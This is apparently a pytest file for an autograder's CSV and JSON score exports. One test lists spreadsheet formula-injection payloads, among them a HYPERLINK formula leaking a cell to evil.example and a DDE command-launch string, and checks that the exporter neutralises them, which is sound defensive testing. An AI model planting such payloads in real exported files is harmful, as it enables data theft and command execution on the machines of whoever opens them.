"""CSV and JSON: the same numbers, no formulas, nothing that is not JSON."""

import csv
import dataclasses
import io
import json
from datetime import timedelta

import pandas as pd
import pytest

from autograder.gradebook.values import StudentRow
from autograder.reports import tables
from autograder.results import Status, Verdict


def table(make, summaries):
    text = tables.to_csv(make.assignment(summaries[0] if summaries else None), summaries)
    return list(csv.DictReader(io.StringIO(text)))


def test_one_row_per_student_and_one_column_per_question(make):
    summaries = [
        make.summary(make.result("q1", points=1.5), make.result("q2"), student="ada"),
        make.summary(make.result("q1"), make.result("q2", Verdict.PENDING), student="bob"),
    ]
    ada, bob = table(make, summaries)
    assert (ada["q1"], ada["q2"], ada["total"], ada["maximum"]) == ("1.5", "2", "3.5", "4")
    assert (bob["q2"], bob["total"], bob["pending"]) == ("", "2", "1")
    assert bob["status"] == "needs_review"
    assert ada["received_at"] == "2026-09-01T12:00:00+00:00"


def test_what_was_not_graded_is_missing_and_not_zero(make):
    (row,) = table(make, [make.summary(run=None)])
    assert (row["total"], row["status"]) == ("", "not_graded")


def test_the_notebook_is_named_where_there_are_several(make):
    summary = make.summary(make.result("q1"), make.result("q1", notebook="vae"))
    assert {"gan/q1", "vae/q1"} <= set(table(make, [summary])[0])


def test_a_question_called_like_a_column_has_one_of_its_own(make):
    names = ("student", "status", "late", "total", "maximum")
    results = [make.result(name, points=1.5) for name in names]
    summary = make.summary(*results)
    table = tables.score_table(make.assignment(summary), [summary])
    assert table.columns.is_unique
    assert table.loc[0, ["student", "status", "late"]].tolist() == ["ada", "graded", False]
    assert table.loc[0, ["total", "maximum"]].tolist() == [7.5, 10.0]
    assert table.loc[0, [f"gan/{name}" for name in names]].tolist() == [1.5] * 5


def test_the_time_is_that_of_the_attempt_that_counts(make):
    later = dataclasses.replace(make.attempt, received_at=make.noon + timedelta(days=30))
    summary = make.summary(make.result(), attempt=later)
    row = tables.score_table(make.assignment(summary), [summary]).loc[0]
    assert summary.waiting
    assert (row["received_at"], row["late"]) == (make.noon.isoformat(), False)


def test_an_empty_class_has_a_header(make):
    text = tables.to_csv(make.assignment(), [])
    assert text.startswith("student,first_name,")
    assert text.count("\n") == 1


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?x="&A1)',
        *("+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1"),
        *("  =1", "\u00a0=1", "＝1", "-", "＋1"),
    ],
)
def test_no_cell_is_a_formula(make, text):
    result = make.result(text, notebook="gan")
    summary = make.summary(result, student=StudentRow(name=text, first_name=text, email=text))
    content = tables.to_csv(make.assignment(summary), [summary])
    for row in csv.reader(io.StringIO(content, newline="")):
        for cell in row:
            assert cell.strip()[:1] not in tuple("=+-@＝＋－＠") or cell.strip() == ""
            assert cell[:1] not in ("\t", "\r", "\n")
    inert = "'" + text.replace("\r", " ")
    assert inert in content.replace('""', '"')
    assert len(list(csv.reader(io.StringIO(content, newline="")))) == 2


@pytest.mark.parametrize("text", ["Ada", "", "x=1", "a@b.example", "O'Hara"])
def test_harmless_text_stays(text):
    assert tables.inert(text) == text


def test_numbers_stay_numbers(make):
    summary = make.summary(make.result("q1", points=0.1 + 0.2))
    read = pd.read_csv(io.StringIO(tables.to_csv(make.assignment(summary), [summary])))
    assert read["q1"].tolist() == [0.3]
    assert tables.inert(-1.5) == -1.5


def test_json_holds_what_counts(make):
    summary = make.summary(
        make.score(make.result("q1", Verdict.FAILED), given=1.0, reason="close"),
        make.result("q2", Verdict.GRADER_ERROR, message="\ud800\x00"),
        run=make.run(status=Status.NEEDS_REVIEW, flags=("restored",), cpu_seconds=float("nan")),
    )
    read = json.loads(tables.to_json(make.assignment(summary), [summary]))
    assert read["schema"] == tables.SCHEMA
    (submission,) = read["submissions"]
    assert (submission["score"], submission["maximum"]) == (1.0, 4.0)
    assert submission["status"] == "needs_review"
    assert submission["flags"] == ["restored"]
    first, second = submission["results"]
    assert (first["points"], first["automatic_points"]) == (1.0, 0.0)
    assert first["adjustment"]["author"] == "grace"
    assert (second["points"], second["verdict"]) == (None, "grader_error")


def test_json_of_an_empty_class(make):
    assert json.loads(tables.to_json(make.assignment(), []))["submissions"] == []


def test_json_of_what_was_not_graded(make):
    summary = make.summary(run=None, last_error="no engine")
    (read,) = json.loads(tables.to_json(make.assignment(), [summary]))["submissions"]
    assert (read["score"], read["run"], read["error"]) == (None, None, "no engine")
